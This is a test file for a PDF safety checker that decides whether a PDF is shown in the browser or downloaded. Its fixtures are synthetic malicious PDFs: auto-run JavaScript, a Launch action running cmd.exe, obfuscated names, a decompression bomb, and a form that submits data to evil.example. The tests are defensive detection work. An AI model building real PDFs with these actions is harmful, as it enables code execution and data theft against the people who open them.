import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { pdf } from '../../testing/files.ts';
import { isPassivePdf } from './passive-pdf.ts';

const document = (...objects: string[]) =>
  Buffer.from(`%PDF-1.7\n${objects.map((one, n) => `${n + 1} 0 obj\n${one}\nendobj\n`).join('')}startxref\n9\n%%EOF\n`, 'latin1');
const stream = (dictionary: string, contents: Buffer | string) => `<< ${dictionary} >>\nstream\n${Buffer.from(contents).toString('latin1')}\nendstream`;
const objects = (text: string, more = '/Filter /FlateDecode') => stream(`/Type /ObjStm /N 1 /First 4 ${more}`, deflateSync(text));

describe('a passive PDF is shown in the browser', () => {
  test.for([
    ['that says nothing', pdf().bytes],
    ['with text', document('<< /Type /Catalog >>', stream('/Filter /FlateDecode', deflateSync('BT (launch of JavaScript) Tj ET')))],
    ['that opens at a page', document('<< /OpenAction [3 0 R /FitH null] /Names << /Dests 4 0 R >> >>')],
    ['with links', document('<< /A << /S /URI /URI (https://primjer.hr) >> >>')],
    ['with packed objects', document(objects('1 0 << /Type /Page >>'), objects('2 0 << /Type /Font >>'))],
    ['with a name that only begins like one', document('<< /JSON 1 /LaunchPad 2 /JavaScripts 3 >>')],
  ] as const)('%s', ([, bytes]) => {
    expect(isPassivePdf(bytes)).toBe(true);
  });
});

describe('an active PDF is downloaded, not shown', () => {
  test.for([
    ['with a script that runs when it opens', document('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')],
    ['with a script in a stream', document('<< /S /JavaScript /JS 5 0 R >>')],
    ['with a script by an escaped name', document('<< /S /J#61va#53cript /J#53 (app.alert(1)) >>')],
    ['with a script’s key alone', document('<< /JS(app.alert(1)) >>')],
    ['that launches a program', document('<< /OpenAction << /S /Launch /F (cmd.exe) >> >>')],
    ['that launches one by an escaped name', document('<< /S /#4c#61unch /F (cmd.exe) >>')],
    ['with a file in it', document('<< /Type /EmbeddedFile >>', '<< /Names << /EmbeddedFiles 1 0 R >> >>')],
    ['with a form that sends', document('<< /S /SubmitForm /F (https://evil.example) >>')],
    ['with a form that has scripts of its own', document('<< /AcroForm << /XFA 4 0 R >> >>')],
    ['with a film', document('<< /Subtype /RichMedia >>')],
    ['with a script among packed objects', document(objects('1 0 << /S /JavaScript /JS (app.alert(1)) >>'))],
    ['with a script by an escaped name among packed objects', document(objects('1 0 << /S /Java#53cript >>'))],
    ['with packed objects by an escaped name', document(stream('/Type /Obj#53tm /Filter /FlateDecode', deflateSync('<< /S /Launch >>')))],
    ['with objects packed so that they cannot be read', document(stream('/Type /ObjStm /Filter /LZWDecode', 'nečitljivo'))],
    ['with objects that unfold without end', document(objects(' '.repeat(40_000_000)))],
    ['with packed objects that stand nowhere', document('<< /Type /ObjStm >>')],
    ['that is encrypted', document('<< /Encrypt 4 0 R >>')],
  ] as const)('%s', ([, bytes]) => {
    expect(isPassivePdf(bytes)).toBe(false);
  });
});
